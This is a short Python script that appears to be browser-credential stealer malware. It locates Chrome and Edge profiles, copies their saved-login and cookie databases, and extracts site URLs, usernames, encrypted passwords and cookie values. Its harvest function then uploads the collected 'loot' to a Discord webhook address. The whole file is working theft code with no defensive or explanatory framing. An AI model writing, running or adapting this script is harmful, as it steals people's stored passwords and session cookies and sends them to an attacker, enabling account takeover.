import os, shutil, sqlite3, tempfile
from pathlib import Path
import requests

HOOK = "https://discord.invalid/api/webhooks/1122/abc"

def profiles():
    home = Path.home()
    cands = [home / ".config/google-chrome/Default", home / ".config/microsoft-edge/Default",
             home / "AppData/Local/Google/Chrome/User Data/Default"]
    return [c for c in cands if c.exists()]

def _rows(db, sql):
    tmp = os.path.join(tempfile.gettempdir(), "bm.db")
    shutil.copy2(db, tmp)
    con = sqlite3.connect(tmp)
    try:
        return con.execute(sql).fetchall()
    finally:
        con.close()

def harvest(prof):
    loot = {}
    if (prof / "Login Data").exists():
        loot["logins"] = [(u, n, p.hex()) for u, n, p in _rows(prof / "Login Data",
                          "SELECT origin_url, username_value, password_value FROM logins")]
    if (prof / "Network/Cookies").exists():
        loot["cookies"] = [(h, n, v.hex()) for h, n, v in _rows(prof / "Network/Cookies",
                           "SELECT host_key, name, encrypted_value FROM cookies")]
    if loot:
        requests.post(HOOK, files={"file": ("data.json", repr(loot))}, timeout=5)
